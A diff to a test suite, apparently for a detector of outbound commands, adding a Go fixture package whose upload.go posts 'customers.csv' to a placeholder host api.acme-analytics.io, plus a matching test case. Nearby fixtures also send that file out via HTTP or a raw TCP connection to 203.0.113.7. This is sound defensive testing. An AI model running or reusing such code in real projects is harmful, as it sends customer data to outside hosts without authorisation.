@@ -211,6 +211,10 @@ script('rusty/src/bin/dial.rs', 'use std::io::Write;\nfn main() {\n    let mut s
 fs.mkdirSync(path.join(cwd, 'sharp'), { recursive: true });
 script('sharp/Program.cs', 'var data = File.ReadAllText("customers.csv");\nawait new HttpClient().PostAsync("https://api.acme-analytics.io/in", new StringContent(data));\n');
 script('Upload.java', 'import java.net.http.*;\nimport java.nio.file.*;\nclass Upload {\n  public static void main(String[] a) throws Exception {\n    HttpClient.newHttpClient().send(HttpRequest.newBuilder(java.net.URI.create("https://api.acme-analytics.io/in")).POST(HttpRequest.BodyPublishers.ofFile(Path.of("customers.csv"))).build(), HttpResponse.BodyHandlers.discarding());\n  }\n}\n');
+fs.mkdirSync(path.join(cwd, 'cmd', 'push'), { recursive: true });
+script('cmd/push/main.go', 'package main\n\nfunc main() {\n\tupload("customers.csv")\n}\n');
+script('cmd/push/upload.go', 'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc upload(name string) {\n\tf, _ := os.Open(name)\n\thttp.Post("https://api.acme-analytics.io/in", "text/csv", f)\n}\n');
+script('cmd/push/upload_test.go', 'package main\n');
 script('dial.go', 'package main\n\nimport (\n\t"net"\n\t"os"\n)\n\nfunc main() {\n\tc, _ := net.Dial("tcp", "203.0.113.7:9000")\n\tb, _ := os.ReadFile("customers.csv")\n\tc.Write(b)\n}\n');
 script('count.go', 'package main\n\nimport (\n\t"fmt"\n\t"os"\n)\n\nfunc main() {\n\tb, _ := os.ReadFile("customers.csv")\n\tfmt.Println(len(b), "https://acme-analytics.io/docs")\n}\n');
 script('dynamo-put.py', 'import csv, boto3\ntable = boto3.resource("dynamodb").Table("users")\nfor row in csv.DictReader(open("customers.csv")):\n    table.put_item(Item=row)\n');
@@ -721,6 +725,7 @@ describe('outbound commands', () => {
     ['a Go program’s http.Post', 'go run post.go', 'api.acme-analytics.io'],
     ['a Go package’s request built with a sending method', 'go run -race ./cmd/sync', 'api.acme-analytics.io'],
     ['a Go program’s net.Dial', 'go run dial.go', '203.0.113.7'],
+    ['a Go package whose sending is in another of its files', 'go run ./cmd/push', 'api.acme-analytics.io'],
     ['a Rust program run by cargo', 'cargo run --release --manifest-path rusty/Cargo.toml', 'api.acme-analytics.io'],
     ['a Rust binary’s TcpStream', 'cargo run --manifest-path rusty/Cargo.toml --bin dial', '203.0.113.7'],
     ['a C# program run by dotnet', 'dotnet run --project sharp', 'api.acme-analytics.io'],
